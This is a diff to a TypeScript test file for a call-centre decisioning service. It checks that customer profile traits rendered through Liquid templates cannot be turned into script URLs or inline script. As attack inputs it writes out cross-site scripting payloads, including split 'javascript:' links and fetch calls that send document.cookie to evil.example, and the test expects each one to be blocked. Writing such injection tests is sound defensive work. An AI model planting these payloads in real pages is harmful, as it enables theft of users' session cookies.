@@ -4,9 +4,11 @@
  * (events need no user token), rendered by an operator's call-centre script
  * into a srcset, CSS, a refresh or through `| raw`, never reaches the
  * agent's screen as a script or a navigation: that script is not served
- * (the next action is); with harmless traits, it is. A script whose Liquid
- * branches leave different places of the markup is refused (400), and the
- * catalog in place stays.
+ * (the next action is); with harmless traits, it is. Nor does a link split
+ * over two traits, a value written after a `{% capture %}` or by a
+ * `{% cycle %}`. A script whose Liquid branches leave different places of
+ * the markup, or that writes a value into its own `javascript:` URL, is
+ * refused (400), and the catalog in place stays.
  */
 import { assert, describe, expect, it } from 'vitest';
 import { useLocalStack } from '../support/stack.ts';
@@ -33,13 +35,13 @@ const CATALOG = {
 
 const HARMLESS = { nextCase: '/cases/next', avatar: '/avatars/42.png', banner: '/banners/gold.png', note: 'Cliente desde 2019 &amp; VIP' };
 
-/** The call centre's back-end asks (server key) until decide serves this catalog to the customer. */
-async function scriptFor(userId: string): Promise<Decision> {
+/** The call centre's back-end asks (server key) until decide serves one of these actions (this catalog) to the customer. */
+async function scriptFor(userId: string, actions: readonly string[] = ['crm-script', 'plain-script']): Promise<Decision> {
   const deadline = Date.now() + 40_000;
   for (;;) {
     const answer = await decide(api, { userId, channel: 'call_center', limit: 1 });
     const id = answer.actions[0]?.actionId ?? '';
-    if (['crm-script', 'plain-script'].includes(id) || Date.now() > deadline) return answer;
+    if (actions.includes(id) || Date.now() > deadline) return answer;
     await new Promise((resolve) => setTimeout(resolve, 250));
   }
 }
@@ -104,5 +106,61 @@ describe('html content fields', () => {
     // The catalog in place is still the one published before.
     const answer = await decide(api, { userId: uniqueId('after'), channel: 'call_center', limit: 1 });
     expect(answer.actions.map((a) => a.actionId)).toEqual(['crm-script']);
+  });
+
+  it('a link split over two traits, a value after a {% capture %} or written by {% cycle %} is judged where it lands and not served; a value written into the template\'s own javascript: URL is refused (400) and changes nothing', async () => {
+    const script =
+      '<a href="{{ crmBase }}{{ crmPath }}">ficha</a>' +
+      '<a href="{% capture note %}">{% endcapture %}{{ nextCase }}">siguiente</a>' +
+      '<script>crm.tier = {% cycle tier %};</script>';
+    const catalog = {
+      ...CATALOG,
+      actions: [{ id: 'crm-split', name: 'crm split', value: 10, content: { call_center: { script } } }, CATALOG.actions[1]],
+    };
+    const put = await call(api, 'PUT', '/v1/admin/catalog', { auth: 'admin', body: catalog });
+    assert.equal(put.status, 200, put.text.slice(0, 500));
+
+    const harmless = { crmBase: '/crm/', crmPath: 'c/42', nextCase: '/cases/next', tier: '3' };
+    const customer = uniqueId('customer');
+    expect((await sendEvents(api, [identify({ userId: customer }, harmless)])).accepted).toBe(1);
+    await waitForProfile(api, customer, (p) => (p.traits as { tier?: unknown }).tier === '3');
+    const served = await scriptFor(customer, ['crm-split']);
+    expect(served.actions.map((a) => ({ actionId: a.actionId, script: a.content.script }))).toEqual([
+      { actionId: 'crm-split', script: '<a href="/crm/c/42">ficha</a><a href="/cases/next">siguiente</a><script>crm.tier = 3;</script>' },
+    ]);
+
+    // Each trait alone is no script URL; what the browser reads is.
+    const attacks: Record<string, string>[] = [
+      { crmBase: 'java', crmPath: 'script:fetch("https://evil.example/?c="+document.cookie)' },
+      { nextCase: 'javascript:alert(document.cookie)' },
+      { tier: '1;fetch("https://evil.example/?c="+document.cookie)' },
+    ];
+    for (const attack of attacks) {
+      const victim = uniqueId('victim');
+      const traits = { ...harmless, ...attack };
+      expect((await sendEvents(api, [identify({ userId: victim }, traits)])).accepted).toBe(1);
+      await waitForProfile(api, victim, (p) => Object.entries(attack).every(([k, v]) => (p.traits as Record<string, unknown>)[k] === v));
+      const attacked = await scriptFor(victim, ['crm-split', 'plain-script']);
+      expect({ attack, served: attacked.actions.map((a) => ({ actionId: a.actionId, script: a.content.script })) }).toEqual({
+        attack,
+        served: [{ actionId: 'plain-script', script: '<p>Saluda al cliente.</p>' }],
+      });
+    }
+
+    // The operator's own script URL with a value in it: refused with its path, position and why, at validate and at publish.
+    const own = { ...CATALOG, actions: [{ id: 'own-js', name: 'own js', content: { call_center: { script: '<p>Hola</p><a href=" JaVa&#x09;Script:crm.open(\'{{ caseId }}\')">ficha</a>' } } }] };
+    for (const path of ['/v1/admin/catalog/validate', '/v1/admin/catalog']) {
+      const refused = await call<{ error: { details: { path: string; position?: number; message: string }[] } }>(api, path.endsWith('validate') ? 'POST' : 'PUT', path, { auth: 'admin', body: own });
+      assert.equal(refused.status, 400, refused.text.slice(0, 500));
+      expect(refused.json.error.details).toEqual([
+        expect.objectContaining({
+          path: 'actions[0].content.call_center.script',
+          position: 20,
+          message: expect.stringMatching(/a value is written into the href attribute of <a> after the template's own text .*javascript: URL/),
+        }),
+      ]);
+    }
+    const after = await scriptFor(customer, ['crm-split']);
+    expect(after.actions.map((a) => a.actionId)).toEqual(['crm-split']);
   });
 });
